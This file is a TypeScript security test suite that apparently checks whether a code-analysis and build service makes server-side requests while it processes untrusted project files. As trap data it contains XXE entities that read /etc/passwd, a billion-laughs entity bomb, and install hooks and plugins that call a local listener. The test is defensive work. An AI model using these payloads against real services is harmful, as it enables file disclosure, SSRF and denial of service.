import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { once } from 'node:events';
import { readOpenApi } from '../support/openapi-operations.js';
import { describeSecurity } from '../support/security-suite.js';

const LONG_MS = 120_000;

describeSecurity('SSRF', { COMMAND_TIMEOUT_SECONDS: '60' }, (system) => {
  /** Whatever connects to it was made to. */
  const trap = createServer((socket) => {
    caught += 1;
    socket.end();
  });
  let caught = 0;
  let url: string;

  beforeAll(async () => {
    trap.listen(0, '127.0.0.1');
    await once(trap, 'listening');
    url = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  });

  afterAll(() => trap.close());

  it('API7:2023 ASVS 5.2.6 no operation takes a URL', async () => {
    const { operations, schemas } = await readOpenApi(system);
    const named = operations.flatMap(({ parameters }) => parameters.map(({ name }) => name));
    const fields = Object.values(schemas).flatMap(({ properties }) =>
      Object.entries(properties ?? {}),
    );
    const formats = fields.filter(([, { format }]) => format === 'uri' || format === 'url');
    const suspicious = [...named, ...fields.map(([name]) => name)].filter((name) =>
      /(^|_)(url|uri|href|link|host|webhook|callback|endpoint|repository|remote|proxy)(_|$)/i.test(
        name,
      ),
    );
    expect([suspicious, formats]).toEqual([[], []]);
  });

  it(
    'API7:2023 API10:2023 code that names addresses is analysed without asking them',
    async () => {
      const { token } = await system.register();
      const xml = `<?xml version="1.0"?><!DOCTYPE coverage SYSTEM "${url}/x.dtd" [<!ENTITY x SYSTEM "${url}/entity"><!ENTITY p SYSTEM "file:///etc/passwd">]><coverage line-rate="0.5">&x;&p;</coverage>`;
      const lol = `<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]><coverage>&j;</coverage>`;
      const files: Record<string, string> = {
        'a.py': `import urllib.request\nurllib.request.urlopen("${url}")\n# type: ignore\n`,
        'b.ts': `/// <reference path="${url}/x.d.ts" />\nimport x from "${url}/x.js";\nfetch("${url}");\nx();\n`,
        'setup.py': `import urllib.request\nurllib.request.urlopen("${url}/setup")\n`,
        'conftest.py': `import urllib.request\nurllib.request.urlopen("${url}/conftest")\n`,
        'pyproject.toml': `[tool.ruff]\nextend = "${url}/ruff.toml"\n[[tool.uv.index]]\nurl = "${url}"\n[tool.mypy]\nplugins = ["./plugin.py"]\n`,
        'plugin.py': `import urllib.request\nurllib.request.urlopen("${url}/plugin")\ndef plugin(version): return None\n`,
        'mypy.ini': '[mypy]\nplugins = ./plugin.py\n',
        'pyrightconfig.json': `{"extends": "${url}/pyright.json", "venvPath": "/"}`,
        'requirements.txt': `--index-url ${url}\nrequests @ ${url}/requests.zip\n`,
        'package.json': `{"dependencies": {"x": "${url}/x.tgz"}, "scripts": {"preinstall": "curl ${url}"}}`,
        '.npmrc': `registry=${url}\n`,
        'tsconfig.json': `{"extends": "${url}/tsconfig.json", "compilerOptions": {"plugins": [{"name": "./plugin.js"}]}}`,
        'plugin.js': `require('http').get("${url}/plugin")`,
        '.oxlintrc.json': `{"extends": ["${url}/oxlint.json"], "jsPlugins": ["./plugin.js"]}`,
        'eslint.config.js': `require('http').get("${url}/eslint")`,
        Dockerfile: `ADD ${url} /x\n`,
        'coverage.xml': xml,
        'sub/cobertura.xml': lol,
      };
      const reply = await system.request<{ analysis_id: string; status: string }>(
        'POST',
        '/api/analysis',
        {
          ...{ token, headers: { Prefer: 'wait=60' } },
          body: { project_name: 'trap', files },
        },
      );
      const { text } = await system.request('GET', `/api/analysis/${reply.body.analysis_id}`, {
        token,
      });
      expect(JSON.parse(text)).toMatchObject({ status: 'completed' });
      expect(text).not.toContain('root:x:0:0');
      expect(caught).toBe(0);
    },
    LONG_MS,
  );

  it(
    'API7:2023 a goal and a source that name addresses are built without asking them',
    async () => {
      const { token } = await system.register();
      const put = await system.request('PUT', '/api/projects/trap/source', {
        ...{
          token,
          body: { files: { 'pip.conf': `[global]\nindex-url = ${url}\n`, 'README.md': url } },
        },
      });
      expect(put.status).toBe(201);
      const goal = `Add health probes as in ${url}/openapi.json; clone ${url}/repository.git`;
      const parameters = {
        framework: 'fastapi',
        database: 'none',
        include_tests: false,
        template: url,
        callback_url: url,
      };
      const id = await system.build(token, { project_name: 'trap', goal, parameters });
      await system.ended(token, id);
      expect(caught).toBe(0);
    },
    LONG_MS,
  );

  it('API7:2023 the trap works', async () => {
    await fetch(url).catch(() => undefined);
    expect(caught).toBe(1);
  });
});
